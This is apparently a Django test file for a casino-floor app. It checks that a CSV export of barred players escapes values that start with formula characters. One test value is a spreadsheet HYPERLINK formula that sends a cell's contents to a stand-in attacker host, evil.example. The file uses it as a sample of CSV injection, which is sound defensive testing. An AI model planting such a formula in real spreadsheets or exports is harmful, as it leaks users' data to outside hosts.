"""The barred-player CSV keeps what a player or a floor manager typed as text in the accountant's spreadsheet."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from tables import services
from tables.models import ExpulsionDuration
from tests.factories import home_room

LINK = '=HYPERLINK("http://evil.example/?d="&B2,"open")'


def test_a_player_named_as_a_formula_is_text_in_the_csv(floor_manager, accountant, make_player, client_for) -> None:
    player = make_player(LINK, "Avetisyan", alias="@SUM(1+1)")
    services.expulsion_create(
        actor=floor_manager,
        room=home_room(),
        player_id=player.pk,
        rule="-1+1",
        reason="+cheating at table 3",
        duration=ExpulsionDuration.PERMANENT,
    )
    response = client_for(accountant).get(reverse("tables:expulsions_csv"))
    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
    record = dict(zip(header, row, strict=True))
    assert record["player"] == f"'{LINK} Avetisyan" and record["alias"] == "'@SUM(1+1)"
    assert record["rule"] == "'-1+1" and record["reason"] == "'+cheating at table 3"
    assert record["until"] == "permanent" and record["decided_by"] == floor_manager.username
